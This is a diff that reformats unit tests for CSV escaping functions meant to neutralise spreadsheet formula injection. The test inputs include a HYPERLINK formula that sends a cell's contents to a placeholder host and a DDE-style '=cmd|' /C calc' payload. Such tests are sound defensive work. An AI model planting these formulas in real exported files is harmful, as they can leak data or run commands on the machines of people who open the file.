@@ -17,7 +17,9 @@ describe("escapeCsvCell", () => {
   });
 
   it("quotes and escapes the classic payload", () => {
-    expect(escapeCsvCell('=HYPERLINK("http://x.example?d="&A1,"Click")')).toBe(`"'=HYPERLINK(""http://x.example?d=""&A1,""Click"")"`);
+    expect(escapeCsvCell('=HYPERLINK("http://x.example?d="&A1,"Click")')).toBe(
+      `"'=HYPERLINK(""http://x.example?d=""&A1,""Click"")"`,
+    );
   });
 
   it("quotes fields with quotes, commas, semicolons or line breaks (RFC 4180)", () => {
@@ -47,9 +49,13 @@ describe("escapeCsvCell", () => {
 
 describe("toCsv", () => {
   it("joins escaped cells with commas and rows with CRLF, ending with a line break", () => {
-    expect(toCsv([["athlete", "value"], ["=cmd|' /C calc'!A0", -3.2], ["Kovac, Anna", null]])).toBe(
-      "athlete,value\r\n'=cmd|' /C calc'!A0,-3.2\r\n\"Kovac, Anna\",\r\n",
-    );
+    expect(
+      toCsv([
+        ["athlete", "value"],
+        ["=cmd|' /C calc'!A0", -3.2],
+        ["Kovac, Anna", null],
+      ]),
+    ).toBe("athlete,value\r\n'=cmd|' /C calc'!A0,-3.2\r\n\"Kovac, Anna\",\r\n");
     expect(toCsv([])).toBe("");
   });
 });
